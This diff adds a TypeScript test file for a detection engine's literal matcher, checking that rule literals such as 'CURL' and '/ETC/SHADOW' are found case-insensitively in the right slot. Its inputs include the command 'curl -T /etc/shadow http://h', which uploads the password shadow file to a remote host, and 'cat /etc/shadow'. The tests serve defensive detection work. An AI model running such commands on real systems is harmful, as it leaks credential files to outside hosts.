@@ -1,0 +1,37 @@
+import assert from 'node:assert/strict';
+import { Literals } from '../../../src/detections/engine/literals.ts';
+
+describe('the literals of rules', () => {
+  const literals = new Literals();
+  const curl = literals.id(0, 'CURL');
+  const shadow = literals.id(0, '/ETC/SHADOW');
+  const parent = literals.id(1, 'CURL');
+  const slots = literals.seal();
+  const ofSlot = (slot: number, text: string | undefined): number[] => {
+    const found: number[] = [];
+    literals.read(slot, text, (id) => found.push(id));
+    return found;
+  };
+
+  it('have one number for a text of a slot', () => {
+    assert.equal(literals.id(0, 'CURL'), curl);
+    assert.notEqual(parent, curl);
+    assert.equal(literals.count, 3);
+    assert.deepEqual([...slots].sort(), [0, 1]);
+  });
+
+  it('are found once a text, without regard to case, in their own slot only', () => {
+    assert.deepEqual(ofSlot(0, 'curl -T /etc/shadow http://h; Curl x'), [curl, shadow]);
+    assert.deepEqual(ofSlot(1, 'curl'), [parent]);
+  });
+
+  it('are those of the text that the slot has now', () => {
+    ofSlot(0, 'cat /etc/shadow');
+    assert.equal(literals.hasOneOf(0, Int32Array.of(curl)), false);
+    assert.equal(literals.hasOneOf(0, Int32Array.of(curl, shadow)), true);
+    ofSlot(1, 'ls');
+    assert.equal(literals.hasOneOf(0, Int32Array.of(shadow)), true, 'another slot changes nothing');
+    ofSlot(0, undefined);
+    assert.equal(literals.hasOneOf(0, Int32Array.of(shadow)), false);
+  });
+});
